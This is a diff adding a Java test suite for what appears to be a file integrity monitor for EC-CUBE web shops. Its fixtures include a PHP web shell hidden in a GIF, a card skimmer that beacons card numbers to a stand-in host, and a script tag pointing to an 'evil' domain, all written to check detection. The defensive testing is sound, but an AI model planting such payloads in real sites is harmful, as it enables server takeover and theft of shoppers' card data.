@@ -1,0 +1,327 @@
+package dev.mimamori.fim;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.mimamori.model.Severity;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.NoSuchFileException;
+import java.nio.file.Path;
+import java.nio.file.attribute.FileTime;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class IntegrityCheckTest {
+  @TempDir Path temp;
+
+  @Test
+  void reportsNothingWhenNothingChanged() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    assertThat(t.check()).isEmpty();
+  }
+
+  @Test
+  void readsNoFileWhoseSizeMtimeAndInodeAreUnchanged() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    CheckStats stats = t.checker().check(t.root, c -> {});
+    assertThat(stats.hashed()).isZero();
+  }
+
+  @Test
+  void baselineHashesEveryFileNotIgnored() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    CheckStats stats = t.baseline();
+    assertThat(stats.hashed()).isEqualTo(4);
+  }
+
+  @Test
+  void refusesToCheckWithoutBaseline() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    assertThatThrownBy(t::check)
+        .isInstanceOf(NoSuchFileException.class)
+        .hasMessageContaining("fim baseline");
+  }
+
+  @Test
+  void reportsAnAddedFile() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    t.write("html/robots.txt", "User-agent: *\n");
+    Change c = Tree.only(t.check());
+    assertThat(c.change()).isEqualTo(ChangeKind.ADDED);
+  }
+
+  @Test
+  void reportsAModifiedFileOfTheSameSize() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.age("index.php");
+    t.baseline();
+    t.write(
+        "index.php", "<?php\nrequire __DIR__.'/autoload.php';\n".replace("autoload", "autoLoad"));
+    Change c = Tree.only(t.check());
+    assertThat(c.change()).isEqualTo(ChangeKind.MODIFIED);
+  }
+
+  @Test
+  void contentChangedWithMtimeRestoredIsFoundByAFullPassOnly() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.age("index.php");
+    t.baseline();
+    FileTime old = Files.getLastModifiedTime(t.path("index.php"));
+    Files.writeString(t.path("index.php"), "<?php\nrequire __DIR__.'/autoLoad.php';\n");
+    Files.setLastModifiedTime(t.path("index.php"), old);
+    assertThat(t.check()).isEmpty();
+    assertThat(Tree.only(t.check(FimOptions.defaults().withFull(true))).change())
+        .isEqualTo(ChangeKind.MODIFIED);
+  }
+
+  @Test
+  void reportsADeletedFile() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    Files.delete(t.path("index.php"));
+    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.DELETED);
+  }
+
+  @Test
+  void reportsAPermissionChange() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    Files.setPosixFilePermissions(
+        t.path("index.php"), PosixFilePermissions.fromString("rwxr-xr-x"));
+    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.PERMISSIONS);
+  }
+
+  @Test
+  void aFileMadeWorldWritableIsMedium() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    Files.setPosixFilePermissions(
+        t.path("index.php"), PosixFilePermissions.fromString("rw-rw-rw-"));
+    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.MEDIUM);
+  }
+
+  @Test
+  void aFileReplacedByALinkOutOfTheRootIsHigh() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.write("html/robots.txt", "x\n");
+    t.baseline();
+    Files.delete(t.path("html/robots.txt"));
+    Files.createSymbolicLink(t.path("html/robots.txt"), Path.of("/etc/passwd"));
+    Change c = Tree.only(t.check());
+    assertThat(c.change()).isEqualTo(ChangeKind.TYPE);
+    assertThat(c.severity()).isEqualTo(Severity.HIGH);
+  }
+
+  @Test
+  void aSymlinkLoopIsRecordedNotFollowed() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    Files.createSymbolicLink(t.path("html/loop"), t.path("html"));
+    CheckStats stats = t.baseline();
+    assertThat(stats.problems()).isZero();
+  }
+
+  @Test
+  void aChangedLinkTargetIsAModification() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    Files.createSymbolicLink(t.path("html/current"), Path.of("a"));
+    t.baseline();
+    Files.delete(t.path("html/current"));
+    Files.createSymbolicLink(t.path("html/current"), Path.of("b"));
+    assertThat(Tree.only(t.check()).change()).isEqualTo(ChangeKind.MODIFIED);
+  }
+
+  @Test
+  void aFifoIsRecordedWithoutBeingOpened() throws Exception {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    Process p = new ProcessBuilder("mkfifo", t.path("html/pipe").toString()).start();
+    org.junit.jupiter.api.Assumptions.assumeTrue(p.waitFor() == 0, "mkfifo not available");
+    t.baseline();
+    Files.delete(t.path("html/pipe"));
+    assertThat(Tree.only(t.check()).before().kind()).isEqualTo(FileKind.OTHER);
+  }
+
+  @Test
+  void phpInUserDataIsCritical() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    t.write("html/user_data/page.php", "<?php echo 1;\n");
+    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.CRITICAL);
+  }
+
+  @Test
+  void phpInsideAnImageInUploadsIsCritical() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    Files.createDirectories(t.path("html/upload/save_image"));
+    t.baseline();
+    byte[] gif =
+        "GIF89a\u0001\u0000\u0001\u0000\u0000\u0000<?php system($_GET['c']); ?>"
+            .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
+    Files.write(t.path("html/upload/save_image/logo.gif"), gif);
+    assertThat(Tree.only(t.check()).severity()).isEqualTo(Severity.CRITICAL);
+  }
+
+  @Test
+  void aSkimmerAddedToCustomizeJsIsHigh() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.age("html/user_data/assets/js/customize.js");
+    t.baseline();
+    t.write(
+        "html/user_data/assets/js/customize.js",
+        "// customize\n"
+            + "document.forms[0].addEventListener('submit',function(){"
+            + "var c=document.querySelector('#shopping_order_card_number').value;"
+            + "navigator.sendBeacon('https://cdn-jquery.example.com/c',btoa(c));});\n");
+    Change c = Tree.only(t.check());
+    assertThat(c.severity()).isEqualTo(Severity.HIGH);
+  }
+
+  @Test
+  void theDiffOfAChangedTemplateNamesTheScriptHostItAdds() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.age("app/template/default/Shopping/index.twig");
+    t.baseline();
+    t.write(
+        "app/template/default/Shopping/index.twig",
+        "<form>{{ form_widget(form.card_no) }}</form>\n<script src=\"https://js.evil.example/b.js\"></script>\n");
+    Change c = Tree.only(t.check());
+    assertThat(c.diff().scriptHostsAdded()).containsExactly("js.evil.example");
+  }
+
+  @Test
+  void ignoresEcCubeVarByDefault() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    t.write("var/cache/prod/b.php", "<?php return 1;\n");
+    t.write("var/log/prod/site.log", "x\n");
+    assertThat(t.check()).isEmpty();
+  }
+
+  @Test
+  void seesEcCubeVarWithoutDefaultIgnores() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    FimOptions all = FimOptions.defaults().withIgnores(false, List.of());
+    t.checker(all).baseline(t.root);
+    t.write("var/cache/prod/b.php", "<?php return 1;\n");
+    assertThat(t.check(all)).hasSize(1);
+  }
+
+  @Test
+  void extraIgnoreGlobsApply() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    FimOptions opts = FimOptions.defaults().withIgnores(true, List.of("*.bak"));
+    t.checker(opts).baseline(t.root);
+    t.write("index.php.bak", "old\n");
+    assertThat(t.check(opts)).isEmpty();
+  }
+
+  @Test
+  void updateAcceptsWhatWasSeen() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    t.write("html/robots.txt", "x\n");
+    t.check(FimOptions.defaults().withUpdate(true));
+    assertThat(t.check()).isEmpty();
+  }
+
+  @Test
+  void withoutUpdateAChangeIsReportedAgain() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    t.write("html/robots.txt", "x\n");
+    t.check();
+    assertThat(t.check()).hasSize(1);
+  }
+
+  @Test
+  void groupsAnUpgradeIntoOneLowChange() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    for (int i = 0; i < 50; i++) {
+      t.write("src/Eccube/Controller/C" + i + ".php", "<?php // v1 " + i + "\n");
+    }
+    t.age("src/Eccube/Common/Constant.php");
+    t.baseline();
+    t.write(
+        "src/Eccube/Common/Constant.php",
+        "<?php\nclass Constant {\n    const VERSION = '4.2.1';\n}\n");
+    for (int i = 0; i < 50; i++) {
+      t.write("src/Eccube/Controller/C" + i + ".php", "<?php // version 2 of " + i + "\n");
+    }
+    t.write("src/Eccube/Controller/New.php", "<?php // new in 4.2.1\n");
+    Change c = Tree.only(t.check());
+    assertThat(c.change()).isEqualTo(ChangeKind.UPGRADE);
+    assertThat(c.files()).isEqualTo(52);
+  }
+
+  @Test
+  void anUpgradeDoesNotHideAShellInUploads() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    t.write(
+        "src/Eccube/Common/Constant.php",
+        "<?php\nclass Constant {\n    const VERSION = '4.2.1';\n}\n");
+    t.write("html/user_data/x.php", "<?php echo 1;\n");
+    List<Change> changes = t.check();
+    assertThat(changes)
+        .extracting(Change::change)
+        .containsExactly(ChangeKind.ADDED, ChangeKind.UPGRADE);
+  }
+
+  @Test
+  void walksInPathOrderSoTrickyNamesMerge() throws IOException {
+    Tree t = new Tree(temp);
+    t.write("a/b", "1");
+    t.write("a.txt", "2");
+    t.write("a b/c", "3");
+    t.write("a-/d", "4");
+    t.baseline();
+    t.write("a/c", "5");
+    assertThat(Tree.only(t.check()).path()).isEqualTo("a/c");
+  }
+
+  @Test
+  void reportsANameThatIsNotUtf8AndGoesOn() throws Exception {
+    Tree t = new Tree(temp);
+    t.write("ok.txt", "1");
+    Process p =
+        new ProcessBuilder("bash", "-c", "touch $'bad\\xff.php'")
+            .directory(t.root.toFile())
+            .start();
+    org.junit.jupiter.api.Assumptions.assumeTrue(p.waitFor() == 0, "bash not available");
+    t.baseline();
+    assertThat(t.problems).extracting(WalkProblem::reason).anyMatch(r -> r.contains("UTF-8"));
+  }
+
+  @Test
+  void aTruncatedBaselineIsAnErrorNotAnEmptyTree() throws IOException {
+    Tree t = Tree.eccube(temp, "4.2.0");
+    t.baseline();
+    Path file = new FimStore(t.data).baseline(t.root);
+    byte[] bytes = Files.readAllBytes(file);
+    Files.write(file, java.util.Arrays.copyOf(bytes, bytes.length - 20));
+    assertThatThrownBy(t::check).isInstanceOf(IOException.class).hasMessageContaining("truncated");
+  }
+
+  @Test
+  void manyFilesInParallelGiveTheSameChangesAsOneThread() throws IOException {
+    Tree t = new Tree(temp);
+    for (int i = 0; i < 300; i++) {
+      t.write("d" + (i % 7) + "/f" + i + ".js", "var x = " + i + ";\n");
+    }
+    t.checker(FimOptions.defaults().withThreads(4)).baseline(t.root);
+    for (int i = 0; i < 300; i += 3) {
+      t.write("d" + (i % 7) + "/f" + i + ".js", "var x = " + (i * 1000 + 1) + ";\n");
+    }
+    List<String> serial = new ArrayList<>();
+    t.checker(FimOptions.defaults().withThreads(1)).check(t.root, c -> serial.add(c.path()));
+    List<String> parallel = new ArrayList<>();
+    t.checker(FimOptions.defaults().withThreads(4)).check(t.root, c -> parallel.add(c.path()));
+    assertThat(parallel).hasSize(100).isEqualTo(serial);
+  }
+}
